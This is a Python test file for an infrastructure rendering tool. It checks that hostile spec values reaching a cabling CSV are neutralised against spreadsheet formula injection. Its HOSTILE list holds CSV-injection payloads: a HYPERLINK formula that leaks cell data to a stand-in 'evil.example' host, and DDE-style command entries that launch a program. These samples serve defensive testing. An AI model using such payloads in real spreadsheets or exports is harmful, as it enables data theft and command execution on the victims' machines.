"""CSV cells a spreadsheet would run as formulas are neutralised (OWASP "CSV Injection").

``fabrics.oob.uplink_to`` is free text that reaches cabling.csv (the far end of the
OOB uplinks); a hostile value there must reach the CSV as text.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from aiinfra.cli import main
from aiinfra.render.reports import neutralise
from tests.conftest import example, lab_data, write_spec

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Not a formula (it starts with "a"), but its comma, CR, LF and quotes must stay inside the one cell.
MULTILINE = 'a,b\r\n=1+1,"c"'


@pytest.mark.parametrize(("value", "cell"), [(v, "'" + v) for v in HOSTILE] + [(MULTILINE, MULTILINE)])
def test_a_hostile_spec_value_reaches_cabling_csv_as_text(value: str, cell: str, tmp_path: Path) -> None:
    data = lab_data()
    data["fabrics"]["oob"]["uplink_to"] = value
    spec = write_spec(tmp_path, data)
    out = tmp_path / "out"
    assert main(["render", str(spec), "-o", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO((out / "cabling.csv").read_bytes().decode(), newline="")))
    assert len(rows) == len(example("lab").design.links)  # a CR in a cell starts no new row
    uplinks = [r for r in rows if r["kind"] == "oob-uplink"]
    assert uplinks and all(r["b_device"] == cell for r in uplinks)
    for r in rows:  # nothing else in the file starts like a formula
        for text in r.values():
            assert not text.startswith(("=", "+", "@", "\t", "\r")), text
            assert not text.startswith("-") or text.lstrip("-").replace(".", "", 1).isdigit(), text


def test_numbers_and_plain_names_are_left_alone() -> None:
    for cell in (-3, 2.5, -1.5, "-3", "+1.5", "-1e-3", "leaf-01", "swp1", "10.0.0.1/31", "", "a=b"):
        assert neutralise(cell) == cell
    for cell in ("=1", "-1+2", "-x", "+", "@x", "\tx", "\rx", "-"):
        assert neutralise(cell) == "'" + cell
